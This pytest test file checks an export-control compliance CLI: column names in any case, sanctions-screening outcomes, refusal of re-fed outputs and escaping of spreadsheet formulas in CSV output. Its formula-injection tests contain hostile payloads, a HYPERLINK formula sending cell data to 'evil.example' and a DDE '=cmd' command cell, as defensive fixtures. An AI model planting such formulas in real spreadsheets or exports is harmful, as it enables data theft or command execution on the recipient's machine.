"""Review 17, order files: every column named in any case, an earlier run's answers refused,
an unknown destination a row error with screening on, and CSV output safe to open in a
spreadsheet (batch and impact, one process; the Dask paths are in tests/scale/test_dask.py)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from cli_helpers import one_line_error

Cli = Callable[[list[str]], tuple[int, str, str]]


def _csv(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)


# -- H1: optional columns in any case ----------------------------------------------------
@pytest.mark.parametrize("header", [
    "item,destination,date,end_user,value",
    "Item,Destination,Date,END_USER,Value",
    "ITEM,DESTINATION,DATE,End User,VALUE",
    "item,destination,date,end-user, Value ",
])
def test_batch_reads_the_end_user_and_value_in_any_spelling(cli: Cli, tmp_path: Path,
                                                            header: str) -> None:
    """END_USER / "End User" were ignored: the SDN party got NLR, and the $1M line without its
    value was offered LVS."""
    src = _csv(tmp_path / "o.csv", header + '\nEAR99,HK,2024-01-01,"LAM, Carrie",100\n'
               "3A001.a.2,HK,2020-06-29,Acme,1000000\n")
    out = tmp_path / "o.out.csv"
    code, _, err = cli(["batch", src, "-o", str(out)])
    assert code == 0, err
    got = pl.read_csv(out, infer_schema_length=0)
    assert got["outcome"].to_list() == ["PROHIBITED", "EXCEPTION_AVAILABLE"]
    assert got["agency"][0] == "OFAC"
    # not LVS: $1,000,000 is over its limit; STA: Hong Kong was in A:6 then (740.20(c)(2))
    assert got["license_exceptions"][1] == "GBS,STA"
    assert "end_user" in got.columns and "value" in got.columns
    assert not {"END_USER", "End User", "Value"} & set(got.columns)


@pytest.mark.parametrize("column", ["Consignee", "CONSIGNEE", " consignee"])
def test_batch_screens_a_consignee_column_in_any_case(cli: Cli, tmp_path: Path,
                                                      column: str) -> None:
    src = _csv(tmp_path / "c.csv", f'item,destination,date,{column}\nEAR99,HK,2024-01-01,'
                                   '"LAM, Carrie"\n')
    out = tmp_path / "c.out.csv"
    assert cli(["batch", src, "-o", str(out)])[0] == 0
    assert pl.read_csv(out)["outcome"].to_list() == ["PROHIBITED"]


def test_batch_reads_end_user_type_and_end_use_in_any_case(cli: Cli, tmp_path: Path) -> None:
    src = _csv(tmp_path / "t.csv", "item,destination,date,End_User_Type,END USE\n"
                                   "3A991.b,HK,2021-01-15,military,\n"
                                   "3A991.b,HK,2021-01-15,civil,military aircraft maintenance\n")
    out = tmp_path / "t.out.csv"
    assert cli(["batch", src, "-o", str(out), "--no-screen"])[0] == 0
    got = pl.read_csv(out)
    assert got["outcome"].to_list() == ["LICENSE_REQUIRED", "LICENSE_REQUIRED"]
    assert got["reasons"].to_list() == ["MEU", "MEU"]


def test_impact_reads_and_carries_columns_in_any_case(cli: Cli, tmp_path: Path) -> None:
    """The 3A991.b military line is NLR -> LICENSE_REQUIRED (MEU); it read as civil, with
    no value and no end user, and the END_USER and Value columns were not carried."""
    src = _csv(tmp_path / "i.csv", "Item,Destination,END_USER,Value,End_User_Type\n"
                                   '3A001.a.2,HK,"LAM, Carrie",1000000,military\n'
                                   "3A991.b,HK,Acme,500,military\n")
    code, out, err = cli(["impact", src, "--from", "2020-06-29", "--to", "2021-01-15", "-o",
                          str(tmp_path / "imp")])
    assert code == 0, err
    lines = pl.read_parquet(tmp_path / "imp" / "lines.parquet")
    assert lines["end_user"].to_list() == ["LAM, Carrie", "Acme"]
    assert lines["value"].to_list() == [1_000_000.0, 500.0]
    assert lines["end_user_type"].to_list() == ["military", "military"]
    # screened: SDN, but under EO 13936 of 14 Jul 2020, after the old date
    assert lines["old_outcome"][0] != "PROHIBITED" and lines["new_outcome"][0] == "PROHIBITED"
    assert lines.row(1, named=True)["new_outcome"] == "LICENSE_REQUIRED"
    assert lines["new_reasons"][1] == "MEU"
    assert "$1,000,500.00" in out


def test_impact_reads_currency_and_value_in_any_case(cli: Cli, tmp_path: Path) -> None:
    src = _csv(tmp_path / "cur.csv", "ITEM,Destination,VALUE,Currency\n3A001.a.2,DE,1000,EUR\n")
    code, _, err = cli(["impact", src, "--from", "2020-06-29", "--to", "2021-01-15", "-o",
                        str(tmp_path / "imp"), "--rate", "EUR=1.5", "--no-screen"])
    assert code == 0, err
    lines = pl.read_parquet(tmp_path / "imp" / "lines.parquet")
    assert lines["value"].to_list() == [1500.0]
    assert lines["value_in_currency"].to_list() == ["1000"]


@pytest.mark.parametrize("command", ["batch", "impact"])
@pytest.mark.parametrize(("header", "spellings"), [
    ("item,destination,date,end_user,End User", "'end_user' and 'End User'"),
    ("item,destination,date,Value,VALUE", "'Value' and 'VALUE'"),
])
def test_a_column_named_twice_in_two_spellings_is_refused(
        cli: Cli, tmp_path: Path, command: str, header: str, spellings: str) -> None:
    src = _csv(tmp_path / "d.csv", header + "\nEAR99,DE,2024-01-01,a,b\n")
    args = (["-o", str(tmp_path / "d.out.csv")] if command == "batch"
            else ["--from", "2020-06-29", "--to", "2021-01-15", "-o", str(tmp_path / "imp")])
    one_line_error(cli([command, src, *args]), "twice", spellings)
    assert not (tmp_path / "d.out.csv").exists() and not (tmp_path / "imp").exists()


def test_a_parquet_column_named_twice_in_two_spellings_is_refused(cli: Cli,
                                                                  tmp_path: Path) -> None:
    src = tmp_path / "d.parquet"
    pl.DataFrame({"item": ["EAR99"], "destination": ["DE"], "date": ["2024-01-01"],
                  "END_USER": ["a"], "end_user": ["b"]}).write_parquet(src)
    one_line_error(cli(["batch", str(src), "-o", str(tmp_path / "o.csv")]),
                   "'END_USER' and 'end_user'")


# -- H2: an earlier run's answers --------------------------------------------------------
def _earlier_output(cli: Cli, tmp_path: Path, fmt: str) -> Path:
    src = _csv(tmp_path / "first.csv", "order_id,item,destination,date\n"
                                       "SO-1,USML:VIII(h),HK,2020-02-30\n"
                                       "SO-2,3A001.a.2,HK,2020-06-29\n")
    first = tmp_path / f"first.out.{fmt}"
    assert cli(["batch", src, "-o", str(first), "--no-screen"])[0] == 0
    redated = tmp_path / f"redated.{fmt}"
    df = (pl.read_parquet(first) if fmt == "parquet" else pl.read_csv(first,
                                                                     infer_schema_length=0))
    df = df.with_columns(pl.lit("2025-06-01").alias("date"))
    df.write_parquet(redated) if fmt == "parquet" else df.write_csv(redated)
    return redated


@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_batch_refuses_an_earlier_runs_output_and_writes_nothing(cli: Cli, tmp_path: Path,
                                                                 fmt: str) -> None:
    """The old answers stayed under outcome/error (the new ones went to outcome_right), and a
    CSV round trip wrote the mixed file before failing with a traceback."""
    redated = _earlier_output(cli, tmp_path, fmt)
    out = tmp_path / f"again.{fmt}"
    err = one_line_error(cli(["batch", str(redated), "-o", str(out), "--no-screen"]),
                         "'outcome'", "'hold'", "'error'", "earlier", "remove or rename")
    assert "_right" not in err
    assert not out.exists()


def test_impact_refuses_an_earlier_runs_output_and_writes_nothing(cli: Cli,
                                                                  tmp_path: Path) -> None:
    """It ended in a DuplicateError traceback ('hold')."""
    redated = _earlier_output(cli, tmp_path, "parquet")
    one_line_error(cli(["impact", str(redated), "--from", "2020-06-29", "--to", "2021-01-15",
                        "-o", str(tmp_path / "imp")]), "'outcome'", "'hold'")
    assert not (tmp_path / "imp").exists()


@pytest.mark.parametrize("column", ["line", "Category", "cause", "old_outcome", "New Outcome"])
def test_impact_refuses_columns_of_its_own_line_table(cli: Cli, tmp_path: Path,
                                                      column: str) -> None:
    src = _csv(tmp_path / "o.csv", f"item,destination,{column}\n3A001.a.2,HK,x\n")
    one_line_error(cli(["impact", src, "--from", "2020-06-29", "--to", "2021-01-15", "-o",
                        str(tmp_path / "imp"), "--no-screen"]), repr(column))


def test_batch_keeps_a_line_or_category_column_of_the_order_book(cli: Cli,
                                                                 tmp_path: Path) -> None:
    """Only what batch itself writes is refused there."""
    src = _csv(tmp_path / "o.csv", "line,category,item,destination,date\n"
                                   "7,chips,3A001.a.2,DE,2024-01-01\n")
    out = tmp_path / "o.out.csv"
    assert cli(["batch", src, "-o", str(out), "--no-screen"])[0] == 0
    got = pl.read_csv(out, infer_schema_length=0)
    assert got["line"].to_list() == ["7"] and got["outcome"].to_list() == ["NLR"]


# -- M1: an unknown destination with screening on ----------------------------------------
def test_batch_gives_an_unknown_destination_a_row_error_with_screening_on(
        cli: Cli, tmp_path: Path) -> None:
    src = _csv(tmp_path / "xx.csv", "item,destination,date,end_user\n"
                                    "EAR99,DE,2024-01-01,Acme GmbH\n"
                                    "EAR99,XX,2024-01-01,Acme GmbH\n"
                                    'EAR99,HK,2024-01-01,"LAM, Carrie"\n')
    out = tmp_path / "xx.out.csv"
    code, _, err = cli(["batch", src, "-o", str(out)])
    assert code == 0, err
    got = pl.read_csv(out)
    assert got["outcome"].to_list() == ["NLR", None, "PROHIBITED"]
    assert "unknown destination 'XX'" in got["error"][1]


def test_impact_gives_an_unknown_destination_a_row_error_with_screening_on(
        cli: Cli, tmp_path: Path) -> None:
    src = _csv(tmp_path / "xx.csv", "item,destination,end_user\nEAR99,DE,Acme GmbH\n"
                                    "EAR99,XX,Acme GmbH\n")
    code, out, err = cli(["impact", src, "--from", "2020-06-29", "--to", "2021-01-15", "-o",
                          str(tmp_path / "imp")])
    assert code == 0, err
    lines = pl.read_parquet(tmp_path / "imp" / "lines.parquet")
    assert lines["new_outcome"].to_list() == ["NLR", None]
    assert "unknown destination 'XX'" in lines["error"][1]
    assert "1 with errors" in out


# -- M2: CSV formula injection -----------------------------------------------------------
INJECTION = ('order_id,customer,item,destination,date,end_user,value,notes,quantity\n'
             '=1+1,"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",EAR99,DE,'
             '2024-01-01,"=cmd|\' /C calc\'!A0",100,+SUM(1),-5\n'
             '@x,-2+3,EAR99,DE,2024-01-01,Acme,-5,"\t=tab",3\n'
             "'quoted,\"\r=cr\",EAR99,DE,2024-01-01,Acme,7,-12.5,\n")


def test_batch_csv_output_neutralises_formulas_but_not_numbers(cli: Cli,
                                                                tmp_path: Path) -> None:
    from exportcheck.csvsafe import unsafe_cell

    src = _csv(tmp_path / "inj.csv", INJECTION)
    out = tmp_path / "inj.out.csv"
    assert cli(["batch", src, "-o", str(out), "--no-screen"])[0] == 0
    got = pl.read_csv(out, infer_schema_length=0)
    assert got["order_id"].to_list() == ["'=1+1", "'@x", "''quoted"]
    assert got["customer"].to_list() == [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "'-2+3", "'\r=cr"]
    assert got["end_user"][0] == "'=cmd|' /C calc'!A0"
    assert got["notes"].to_list() == ["'+SUM(1)", "'\t=tab", "-12.5"]  # a number: as it is
    assert got["quantity"].to_list() == ["-5", "3", None]
    # as given (review 17 L12), and a plain number is no formula
    assert got["value"].to_list() == ["100", "-5", "7"]
    assert got["error"][1] == "value must be a non-negative amount in USD"
    # undone by removing one quote
    assert [unsafe_cell(c) for c in got["order_id"]] == ["=1+1", "@x", "'quoted"]
    # Parquet keeps the values as given
    assert cli(["batch", src, "-o", str(tmp_path / "inj.parquet"), "--no-screen"])[0] == 0
    assert pl.read_parquet(tmp_path / "inj.parquet")["order_id"][0] == "=1+1"


def test_screen_batch_csv_output_neutralises_formulas(cli: Cli, tmp_path: Path) -> None:
    src = _csv(tmp_path / "names.csv", 'name,country\n"=HYPERLINK(""http://evil"",""x"")",HK\n'
                                       "Carrie Lam,HK\n@SUM(1),\n")
    out = tmp_path / "hits.csv"
    assert cli(["screen-batch", src, "--name-column", "name", "-o", str(out)])[0] == 0
    got = pl.read_csv(out, infer_schema_length=0)
    assert got["name"].to_list() == ["'=HYPERLINK(\"http://evil\",\"x\")", "Carrie Lam",
                                     "'@SUM(1)"]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1", "'=1"), ("+1", "+1"), ("-5", "-5"), ("-2+3", "'-2+3"), ("@a", "'@a"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'a", "''a"), ("a=1", "a=1"), ("", ""),
    ("1e5", "1e5"), ("-.5", "-.5"), ("-", "'-"),
])
def test_safe_cell(value: str, cell: str) -> None:
    from exportcheck.csvsafe import safe_cell, unsafe_cell

    assert safe_cell(value) == cell and unsafe_cell(cell) == value
